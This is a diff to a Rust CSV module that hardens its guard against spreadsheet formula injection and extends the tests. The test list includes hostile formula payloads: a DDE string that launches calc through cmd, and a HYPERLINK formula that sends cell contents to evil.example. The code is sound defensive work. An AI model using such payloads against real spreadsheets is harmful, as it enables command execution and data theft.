@@ -1,7 +1,8 @@
 //! Tables as files: CSV as RFC 4180 has it, UTF-8, with a header.
 //!
-//! A cell that a spreadsheet would take for a formula gets an apostrophe in front, on its way out, and loses it on its way
-//! in. What begins with apostrophes and would then be one gets another, so that every text comes back as it was.
+//! Wherever a spreadsheet could see a formula begin, an apostrophe is put in front on the way out and taken off on the way
+//! in: at the beginning of a cell, and behind semicolons, tabs and line breaks, at which spreadsheets of other countries part
+//! cells. What begins with apostrophes and would then be one gets another, so that every text comes back as it was.
 
 use std::future::Future;
 
@@ -88,10 +89,10 @@ pub(crate) fn read(body: &[u8], columns: &[Column]) -> Result<Table, Problem> {
         if rows.len() == ROWS_MAX {
             return Err(Problem::too_many_rows(ROWS_MAX));
         }
-        let cell = |place: Option<usize>| record.get(place?).map(unguarded).filter(|cell| !cell.trim().is_empty());
+        let cell = |place: Option<usize>| record.get(place?).map(unguarded).filter(|cell: &String| !cell.trim().is_empty());
         rows.push(Row {
             line,
-            cells: places.iter().map(|place| cell(*place).map(str::to_owned)).collect(),
+            cells: places.iter().map(|place| cell(*place)).collect(),
             overflows: record.iter().skip(header.len()).any(|cell| !cell.trim().is_empty()),
         });
     }
@@ -148,16 +149,61 @@ impl Lines<'_> {
     }
 }
 
+/// What a spreadsheet takes for the beginning of a formula, also as Japanese keyboards type it.
+const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// Where a reader may see a cell begin that is none: in a country whose spreadsheets part cells by semicolons or by tabs, and
+/// where one that does not know quotation marks sees a line end.
+const BREAKS: [char; 4] = [';', '\t', '\n', '\r'];
+
+/// Whether a spreadsheet would take what stands here for a formula, once it has taken off what it takes for quoting.
 fn is_formula(cell: &str) -> bool {
-    cell.trim_start_matches('\'').starts_with(['=', '+', '-', '@', '\t', '\r'])
+    cell.trim_start_matches(['\'', '"', ' ']).starts_with(SIGNS)
 }
 
-fn guarded(cell: String) -> String {
-    if is_formula(&cell) { format!("'{cell}") } else { cell }
+/// The same of a whole cell, which must not begin with a tab or a line break either (OWASP, "CSV Injection").
+fn begins_formula(cell: &str) -> bool {
+    is_formula(cell) || cell.trim_start_matches('\'').starts_with(['\t', '\r', '\n'])
 }
 
-fn unguarded(cell: &str) -> &str {
-    cell.strip_prefix('\'').filter(|rest| is_formula(rest)).unwrap_or(cell)
+/// The parts of a cell that a reader might take for cells, each with the character in front of it.
+fn parts(cell: &str) -> impl Iterator<Item = (Option<char>, &str)> {
+    let mut rest = Some((None, cell));
+    std::iter::from_fn(move || {
+        let (first, part) = rest.take()?;
+        let Some(at) = part.find(BREAKS) else { return Some((first, part)) };
+        let (part, next) = part.split_at(at);
+        let mut characters = next.chars();
+        rest = characters.next().map(|sign| (Some(sign), characters.as_str()));
+        Some((first, part))
+    })
+}
+
+/// A cell with an apostrophe wherever a formula could begin.
+fn guarded(cell: &str) -> String {
+    let mut guarded = String::with_capacity(cell.len() + 1);
+    for (first, part) in parts(cell) {
+        guarded.extend(first);
+        if is_formula(part) || first.is_none() && begins_formula(cell) {
+            guarded.push('\'');
+        }
+        guarded.push_str(part);
+    }
+    guarded
+}
+
+/// The cell as it was before it was guarded.
+fn unguarded(cell: &str) -> String {
+    let mut bare = String::with_capacity(cell.len());
+    for (first, part) in parts(cell) {
+        bare.extend(first);
+        let guard = part.strip_prefix('\'');
+        let guard = guard.filter(|rest| {
+            is_formula(rest) || first.is_none() && cell.strip_prefix('\'').is_some_and(begins_formula)
+        });
+        bare.push_str(guard.unwrap_or(part));
+    }
+    bare
 }
 
 /// Sends a file that is read page by page as it goes out, so that a long one takes no more memory than a short one. `read`
@@ -195,7 +241,7 @@ fn written(rows: impl IntoIterator<Item = Vec<String>>) -> Bytes {
     let mut writer = WriterBuilder::new().terminator(Terminator::CRLF).flexible(true).from_writer(Vec::new());
     for row in rows {
         // Writing to memory does not fail.
-        let _ = writer.write_record(row.into_iter().map(guarded));
+        let _ = writer.write_record(row.iter().map(|cell| guarded(cell)));
     }
     writer.into_inner().unwrap_or_default().into()
 }
@@ -285,15 +331,76 @@ mod tests {
         assert_eq!(rows.iter().map(|row| row.overflows).collect::<Vec<_>>(), [true, false, false]);
     }
 
+    /// Texts that are formulas to somebody's spreadsheet, and some that look like it.
+    const HOSTILE: [&str; 31] = [
+        "=1+1",
+        "+49 30",
+        "-3",
+        "@x",
+        "\ttab",
+        "\rcr",
+        "\nlf",
+        "'=1",
+        "''@x",
+        "'\tx",
+        "'quoted'",
+        "a,b",
+        "a\"b",
+        "a\r\nb",
+        "x",
+        "Bob;=cmd|' /C calc'!A0",
+        "Street 1\n=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+        "a\r\n+1",
+        "a\t=1",
+        "a;'=1;''=1",
+        "a; \"=1\"",
+        ";=1",
+        "\t=1",
+        "\"=1",
+        "\";\"\"=1",
+        "＝1+1",
+        "a;＋1\t－1\n＠x",
+        " =1",
+        "a;",
+        "a; b; c - d = e",
+        "'",
+    ];
+
+    /// What a reader sees that parts cells by one character, honours quotation marks at the beginning of a cell, and takes the
+    /// rest as it comes.
+    fn seen(file: &[u8], delimiter: u8) -> Vec<String> {
+        let mut reader =
+            ReaderBuilder::new().has_headers(false).flexible(true).delimiter(delimiter).from_reader(file);
+        let mut cells = Vec::new();
+        let mut record = StringRecord::new();
+        while reader.read_record(&mut record).unwrap() {
+            cells.extend(record.iter().map(str::to_owned));
+        }
+        cells
+    }
+
     #[test]
-    fn every_text_comes_back_as_it_went_out_and_no_cell_is_a_formula() {
-        for text in
-            ["=1+1", "+49 30", "-3", "@x", "\ttab", "\rcr", "'=1", "''@x", "'quoted'", "a,b", "a\"b", "a\r\nb", "x"]
-        {
+    fn no_cell_is_a_formula_however_cells_are_parted() {
+        for text in HOSTILE {
+            let row = ["0199f3a0", text, "x", text].map(str::to_owned).to_vec();
+            let file = written([vec!["id".to_owned(), "name".to_owned()], row]);
+            let lines = file.split(|byte| matches!(byte, b'\r' | b'\n'));
+            let plain = lines.flat_map(|line| line.split(|byte| matches!(byte, b';' | b'\t')));
+            let plain = plain.map(|cell| String::from_utf8_lossy(cell).into_owned());
+            let read = [b',', b';', b'\t'].into_iter().flat_map(|delimiter| seen(&file, delimiter));
+            for cell in read.chain(plain) {
+                let begins = cell.trim_start_matches([' ', '"']);
+                assert!(!begins.starts_with(SIGNS), "{text:?} is the formula {cell:?}");
+                assert!(!cell.starts_with(['\t', '\r']), "{text:?}: {cell:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn every_text_comes_back_as_it_went_out() {
+        for text in HOSTILE {
+            assert_eq!(unguarded(&guarded(text)), text);
             let file = written([vec!["name".to_owned()], vec![text.to_owned()]]);
-            let cell = String::from_utf8(file.to_vec()).unwrap().split_once("\r\n").unwrap().1.to_owned();
-            let bare = cell.trim_start_matches('"');
-            assert!(!bare.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
             assert_eq!(read(&file, &COLUMNS).unwrap().rows[0].cells[0].as_deref(), Some(text));
         }
     }
